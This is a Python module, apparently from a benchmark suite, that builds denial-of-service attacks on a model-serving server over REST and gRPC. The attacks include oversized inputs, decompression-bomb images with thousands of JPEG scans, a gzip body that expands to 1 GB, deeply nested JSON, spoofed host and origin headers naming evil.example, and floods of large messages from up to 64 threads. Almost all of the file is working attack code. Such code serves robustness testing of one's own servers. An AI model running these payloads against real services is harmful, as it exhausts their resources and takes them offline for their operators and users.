"""Well-formed requests that cost a model, or the server, more than they should."""

import base64
import gzip
import json
import zlib
from itertools import count

import numpy as np

from benchmarks.attack.models import WIDTH, image, with_scans
from benchmarks.attack.sending import Run, Victim, instances, posting, repeat

MIB = 1 << 20


def long_rows(victim: Victim) -> Run:
    """A row of 20,000 ids for a model whose memory grows with the square."""
    bodies = [instances([[1] * 20_000]), instances([[1] * WIDTH] * 1024)]
    return posting(victim, "ids", [(body, {}) for body in bodies])


def long_texts(victim: Victim) -> Run:
    """A text of 15 MiB by REST, and one repeated to 1,024 rows by gRPC."""
    body = instances(["call now " * (15 * MIB // 9)])
    request = message("texts", "text", np.array([b"x " * 1_900_000], object))
    request.inputs["text"].tensor_shape.dim[0].size = 1024

    numbers = count()

    def send() -> str:
        return victim.post("texts", body) if next(numbers) % 2 else by_grpc(victim, request)

    return lambda: repeat(victim, send, threads=2)


def costly_images(victim: Victim) -> Run:
    """32 JPEGs of thousands of scans, of the most that is allowed, and PNGs of many pixels."""
    photo = image(2000, 2000, "JPEG", noise=True, quality=20, progressive=True)
    few = image(1000, 1000, "JPEG", progressive=True)
    bombs = [with_scans(few, 3000), image(8000, 8000), image(3900, 4000)]
    files = [with_scans(few, 200), photo, *bombs]
    bodies = [instances([{"b64": base64.b64encode(f).decode()}] * 16) for f in files]
    return posting(victim, "images", [(body, {}) for body in bodies], threads=4)


def large_json(victim: Victim) -> Run:
    """30 MB of numbers as JSON, and as many values as are parsed."""
    bodies = [instances([[1.0, 2.0, 3.0]] * rows) for rows in (1_900_000, 240_000)]
    return posting(victim, "numbers", [(body, {}) for body in bodies], threads=4)


def compressed_bombs(victim: Victim) -> Run:
    """Bodies that decompress to 1 GB, and to what is just allowed."""
    stream = zlib.compressobj(wbits=31)
    bomb = b"".join(stream.compress(bytes(MIB)) for _ in range(1000)) + stream.flush()
    allowed = gzip.compress(b'{"instances": [[1, 2, 3]]}' + b" " * (31 * MIB))
    headers = {"content-encoding": "gzip"}
    return posting(victim, "numbers", [(bomb, headers), (allowed, headers)], threads=4)


def nonsense(victim: Victim) -> Run:
    """Deep, wrong and strange requests, as fast as they are refused."""
    rows = json.dumps({"instances": [[1.0, 2.0, 3.0]]}).encode()
    cases = [
        (b"[" * 100_000, {}), (b'{"instances": ' + b"[" * 300 + b"]" * 300 + b"}", {}),
        (rows, {"host": "evil.example"}), (rows, {"origin": "https://evil.example"}),
        (rows, {"x-request-timeout-ms": "9" * 4000}), (b"\xff" * 1000, {}),
        (b'{"instances": [' + b"9" * 100_000 + b"]}", {}),
    ]  # fmt: skip
    return posting(victim, "numbers", cases, threads=2)


def large_messages(victim: Victim) -> Run:
    """gRPC messages of 30 MB, which are too large, and 64 of 4 MB at the same time."""
    zeros = [np.zeros((rows, 3), np.float32) for rows in (2_500_000, *[340_000] * 7)]
    requests = [message("numbers", "x", array) for array in zeros]
    numbers = count()
    return lambda: repeat(
        victim, lambda: by_grpc(victim, requests[next(numbers) % len(requests)]), threads=64
    )


def message(model: str, name: str, array: np.ndarray):
    """A PredictRequest. TensorFlow is imported here, as most attacks do without."""
    import tensorflow as tf
    from tensorflow_serving.apis import predict_pb2

    request = predict_pb2.PredictRequest()
    request.model_spec.name = model
    request.inputs[name].CopyFrom(tf.make_tensor_proto(array))
    return request


def by_grpc(victim: Victim, request) -> str:
    """The name of the status."""
    import grpc
    from tensorflow_serving.apis import prediction_service_pb2_grpc

    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    with grpc.insecure_channel(victim.grpc, options) as channel:
        stub = prediction_service_pb2_grpc.PredictionServiceStub(channel)
        try:
            stub.Predict(request, timeout=40)
            return "OK"
        except grpc.RpcError as error:
            return error.code().name


ATTACKS = {
    "rows of 20,000 ids": long_rows,
    "texts of 15 MiB, by gRPC for 1,024 rows": long_texts,
    "images of many scans and pixels": costly_images,
    "30 MB of JSON": large_json,
    "compressed bodies of 1 GB": compressed_bombs,
    "gRPC messages of 4 and 30 MB": large_messages,
    "deep, wrong and foreign requests": nonsense,
}
